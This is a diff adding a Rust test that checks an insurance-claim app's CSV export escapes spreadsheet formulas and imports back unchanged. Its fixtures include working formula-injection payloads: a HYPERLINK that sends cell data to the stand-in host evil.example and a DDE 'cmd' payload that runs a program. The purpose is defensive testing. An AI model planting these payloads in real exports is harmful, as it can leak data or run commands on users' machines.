@@ -156,6 +156,60 @@ async fn an_exported_inventory_imported_into_another_claim_is_the_same_inventory
     .await;
 }
 
+/// The cells of a CSV file, header first, as a spreadsheet's CSV reader sees them.
+fn csv_cells(text: &str) -> Vec<Vec<String>> {
+    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
+    reader.records().map(|r| r.unwrap().iter().map(str::to_owned).collect()).collect()
+}
+
+#[tokio::test]
+async fn formulas_typed_by_a_policyholder_reach_the_adjusters_download_as_text_and_import_back_unchanged() {
+    each_backend(|backend| async move {
+        let app = TestApp::spawn(backend).await;
+        let (ann, ada, claim) = setup(&app).await;
+        let hyperlink = "=HYPERLINK(\"https://evil.example/?\"&A2,\"Receipt\")";
+        let mut receipt = item(hyperlink, "=Room", 1, 1000);
+        receipt["notes"] = json!("-1+cmd|' /C calc'!A0");
+        receipt["brand"] = json!("@SUM(A1)");
+        receipt["model"] = json!("+1e5");
+        add(&app, &ann, &claim, receipt).await;
+        let mut negative = item("-12.50", "Garage", 1, 0);
+        negative["brand"] = json!("'=typed with a mark");
+        add(&app, &ann, &claim, negative).await;
+
+        let claim_path = format!("/claims/{claim}/export.csv");
+        for path in [format!("/api/v1{claim_path}"), claim_path.clone()] {
+            let r = ada.get(app.url(&path)).send().await.unwrap();
+            assert_eq!(r.status(), StatusCode::OK, "{path}");
+            assert!(r.headers()["content-type"].to_str().unwrap().starts_with("text/csv"), "{path}");
+            let rows = csv_cells(&r.text().await.unwrap());
+            let (first, second) = (&rows[1], &rows[2]);
+            assert_eq!(
+                [&first[0], &first[1], &first[2], &first[3], &first[11]].map(String::as_str),
+                ["'=Room", &format!("'{hyperlink}"), "'@SUM(A1)", "'+1e5", "'-1+cmd|' /C calc'!A0"],
+                "{path}: {rows:?}"
+            );
+            assert_eq!(second[1], "-12.50", "{path}: a plain negative number stays a number");
+            assert_eq!(second[2], "''=typed with a mark", "{path}");
+        }
+
+        // The download imports as the same items.
+        let csv = ann.get(app.url(&format!("/api/v1{claim_path}"))).send().await.unwrap().bytes().await.unwrap();
+        let other = open_claim(&app, &ada, "CLM-1002", ANN).await;
+        csv_call(&app, &ann, &format!("/api/v1/claims/{other}/import.csv"), csv.to_vec()).await.ok(StatusCode::OK);
+        let fields = ["room", "description", "brand", "model", "notes", "quantity", "replacement_cost_cents"];
+        let (a, b) = (get_claim(&app, &ann, &claim).await, get_claim(&app, &ann, &other).await);
+        assert_eq!(b["items"].as_array().unwrap().len(), 2);
+        for (x, y) in a["items"].as_array().unwrap().iter().zip(b["items"].as_array().unwrap()) {
+            for f in fields {
+                assert_eq!(x[f], y[f], "{f}");
+            }
+        }
+        assert_eq!(b["items"][0]["description"], hyperlink);
+    })
+    .await;
+}
+
 #[tokio::test]
 async fn a_bad_file_saves_nothing_and_names_the_line_and_column() {
     each_backend(|backend| async move {
